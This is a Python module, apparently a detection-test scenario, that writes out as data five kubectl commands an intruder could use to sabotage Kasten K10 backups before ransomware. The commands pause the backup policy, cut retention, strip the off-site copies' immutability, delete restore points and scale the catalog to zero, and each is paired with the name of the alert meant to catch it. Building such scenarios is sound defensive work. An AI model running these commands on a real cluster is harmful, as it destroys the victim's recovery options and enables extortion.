"""What an intruder with stolen rights does to K10 before the ransom note: five commands, in plain kubectl."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Final

K10 = "kasten-io"
POLICIES, PROFILES, CONTENTS = (
    "policies.config.kio.kasten.io",
    "profiles.config.kio.kasten.io",
    "restorepointcontents.apps.kio.kasten.io",
)


@dataclass(frozen=True, slots=True)
class Step:
    """One command. ``rule`` is the one that must notice it."""

    what: str
    kubectl: tuple[str, ...]
    rule: str


def session(*, policy: str, profile: str, contents: tuple[str, ...]) -> tuple[Step, ...]:
    """The whole session against the objects that are there."""
    cut: Final = [{"op": "replace", "path": "/spec/retention/daily", "value": 1}]
    unlock: Final = [{"op": "remove", "path": "/spec/locationSpec/objectStore/protectionPeriod"}]
    patch_policy = ("patch", POLICIES, policy, "-n", K10)
    return (
        Step(
            "pause the backup policy",
            (*patch_policy, "--type=merge", "-p", '{"spec":{"paused":true}}'),
            "policy-paused",
        ),
        Step(
            "keep one daily backup instead of seven",
            (*patch_policy, "--type=json", "-p", json.dumps(cut)),
            "retention-cut",
        ),
        Step(
            "drop the immutability of the off-site copies",
            ("patch", PROFILES, profile, "-n", K10, "--type=json", "-p", json.dumps(unlock)),
            "immutability-cut",
        ),
        Step("delete restore points for good", ("delete", CONTENTS, *contents), "restore-point-contents-deleted-many"),
        Step(
            "switch K10's catalog off",
            ("scale", "deployment/catalog-svc", "-n", K10, "--replicas=0"),
            "k10-scaled-to-zero",
        ),
    )
